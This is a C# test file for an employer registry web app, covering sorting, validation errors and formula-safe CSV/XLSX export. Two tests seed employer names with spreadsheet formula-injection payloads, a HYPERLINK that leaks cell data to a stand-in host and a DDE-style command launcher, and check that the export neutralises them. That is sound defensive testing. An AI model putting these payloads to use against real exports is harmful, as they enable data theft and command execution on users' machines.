using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using ClosedXML.Excel;
using Wenjiu.Platform.Database;
using Wenjiu.Platform.Identity;
using Wenjiu.Tests.Infrastructure;

namespace Wenjiu.Tests.Registry;

/// <summary>Issue 7 §6: the employer list sortable (stable) and exportable as CSV/XLSX in the reader's language, formula-safe.</summary>
public sealed class EmployerListOrderAndExportTests
{
    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task The_list_sorts_by_each_column_both_ways_and_equal_keys_keep_the_code_order(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        var a = await RegistryData.AddEmployerAsync(factory, "排序测试A", district: "110108", employees: 1200, revenue: 40000m, uscc: RegistryData.NewUscc(district: "110108"));
        var b = await RegistryData.AddEmployerAsync(factory, "排序测试B", district: "110105", employees: 5, revenue: 50m);
        var c = await RegistryData.AddEmployerAsync(factory, "排序测试C", district: "110101", employees: 5, revenue: 50m, uscc: RegistryData.NewUscc(district: "110101"));
        using var staff = await SignedInClient.CreateAsync(factory, Roles.ServiceSpecialist);
        var tiedOnEmployees = new[] { b.Uscc, c.Uscc }.Order(StringComparer.Ordinal).ToArray();

        Assert.Equal([a.Uscc, b.Uscc, c.Uscc], await UsccsAsync(staff, "name=排序测试&sort=name"));
        Assert.Equal([c.Uscc, b.Uscc, a.Uscc], await UsccsAsync(staff, "name=排序测试&sort=name&dir=desc"));
        Assert.Equal(new[] { a.Uscc, b.Uscc, c.Uscc }.Order(StringComparer.Ordinal), await UsccsAsync(staff, "name=排序测试&sort=code"));
        Assert.Equal([c.Uscc, b.Uscc, a.Uscc], await UsccsAsync(staff, "name=排序测试&sort=district"));
        Assert.Equal([a.Uscc, b.Uscc, c.Uscc], await UsccsAsync(staff, "name=排序测试&sort=district&dir=desc"));
        Assert.Equal([a.Uscc, .. tiedOnEmployees], await UsccsAsync(staff, "name=排序测试&sort=employees&dir=desc"));
        Assert.Equal([.. tiedOnEmployees, a.Uscc], await UsccsAsync(staff, "name=排序测试&sort=employees"));
        Assert.Equal(a.Uscc, (await UsccsAsync(staff, "name=排序测试&sort=size"))[0]); // large first
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task An_unknown_order_is_an_error_naming_the_field(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        using var staff = await SignedInClient.CreateAsync(factory, Roles.ServiceSpecialist);

        using var api = await staff.GetAsync("/api/v1/employers?sort=revenue&dir=sideways");
        var page = await staff.GetPageAsync("/Registry/Employers?sort=revenue");

        Assert.Equal(HttpStatusCode.BadRequest, api.StatusCode);
        var errors = (await api.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors");
        Assert.True(errors.TryGetProperty("sort", out _), errors.ToString());
        Assert.True(errors.TryGetProperty("dir", out _), errors.ToString());
        Assert.Contains("请选择排序方式", page, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task The_filtered_list_exports_as_csv_with_headers_and_names_in_the_readers_language_and_formulas_neutralised(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        var evil = await RegistryData.AddEmployerAsync(factory, "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"导出测试\")", district: "110105");
        var plain = await RegistryData.AddEmployerAsync(factory, "导出测试有限公司", district: "110105");
        await RegistryData.AddEmployerAsync(factory, "导出测试海淀", district: "110108", uscc: RegistryData.NewUscc(district: "110108"));
        using var staff = await SignedInClient.CreateAsync(factory, Roles.ServiceSpecialist);

        using var zh = await staff.GetAsync("/Registry/Employers?handler=Export&format=csv&district=110105&name=导出测试&sort=name");
        using var en = await staff.GetAsync("/Registry/Employers?handler=Export&format=csv&district=110105&name=导出测试&culture=en");

        Assert.Equal(HttpStatusCode.OK, zh.StatusCode);
        Assert.Equal("text/csv", zh.Content.Headers.ContentType?.MediaType);
        var lines = Encoding.UTF8.GetString(await zh.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries)
            .Concat([]).SelectMany(l => l.Split('\n', StringSplitOptions.RemoveEmptyEntries)).ToList();
        Assert.Equal("统一社会信用代码,单位名称,区代码,所在区,行业代码,行业,规模代码,企业规模,重点企业,从业人员(人)", lines[0]);
        Assert.Equal(3, lines.Count); // the header and the two employers of 110105
        Assert.Contains(lines, l => l.StartsWith($"{plain.Uscc},导出测试有限公司,110105,朝阳区,software_it,", StringComparison.Ordinal));
        var evilLine = Assert.Single(lines, l => l.StartsWith(evil.Uscc, StringComparison.Ordinal));
        Assert.Contains(",\"'=HYPERLINK(", evilLine, StringComparison.Ordinal);
        var english = await en.Content.ReadAsStringAsync();
        Assert.StartsWith("Unified social credit code,", english.TrimStart('\uFEFF'), StringComparison.Ordinal);
        Assert.Contains("Chaoyang", english, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task The_filtered_list_exports_as_xlsx_with_codes_as_text_and_formulas_neutralised(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        var evil = await RegistryData.AddEmployerAsync(factory, "@SUM(1+1)*cmd|' /C calc'!A0");
        using var staff = await SignedInClient.CreateAsync(factory, Roles.ServiceSpecialist);

        using var response = await staff.GetAsync($"/Registry/Employers?handler=Export&format=xlsx&code={evil.Uscc}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var workbook = new XLWorkbook(new MemoryStream(await response.Content.ReadAsByteArrayAsync()));
        var sheet = workbook.Worksheet(1);
        Assert.Equal("单位名称", sheet.Cell(1, 2).GetString());
        Assert.Equal(evil.Uscc, sheet.Cell(2, 1).GetString());
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", sheet.Cell(2, 2).GetString());
        Assert.False(sheet.Cell(2, 2).HasFormula);
        Assert.Equal(XLDataType.Text, sheet.Cell(2, 3).DataType);
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task An_export_in_an_unknown_format_is_refused_naming_the_field(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        using var staff = await SignedInClient.CreateAsync(factory, Roles.ServiceSpecialist);

        using var response = await staff.GetAsync("/Registry/Employers?handler=Export&format=pdf");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("请选择导出格式", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Providers.Both), MemberType = typeof(Providers))]
    public async Task The_employer_page_links_to_its_statements_for_staff_and_its_own_users(DatabaseProvider provider)
    {
        await using var factory = await WenjiuFactory.CreateAsync(provider);
        var employer = await RegistryData.AddEmployerAsync(factory, "北京链接测试有限公司");
        using var staff = await SignedInClient.CreateAsync(factory, Roles.Reviewer);
        using var own = await SignedInClient.CreateAsync(factory, Roles.Enterprise, employer.Uscc);

        var staffPage = await staff.GetPageAsync($"/Registry/Employers/Detail/{employer.Uscc}");
        var ownPage = await own.GetPageAsync($"/Registry/Employers/Detail/{employer.Uscc}?culture=en");

        Assert.Contains($"href=\"/Relief/Statements/{employer.Uscc}\" id=\"employer-statements\">查看本单位的减免对账单", staffPage, StringComparison.Ordinal);
        Assert.Contains($"href=\"/Relief/Statements/{employer.Uscc}\" id=\"employer-statements\">This employer&#x27;s relief statements", ownPage, StringComparison.Ordinal);
    }

    private static async Task<List<string>> UsccsAsync(SignedInClient client, string query)
    {
        using var response = await client.GetAsync("/api/v1/employers?" + query);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("items").EnumerateArray().Select(e => e.GetProperty("uscc").GetString()!).ToList();
    }
}
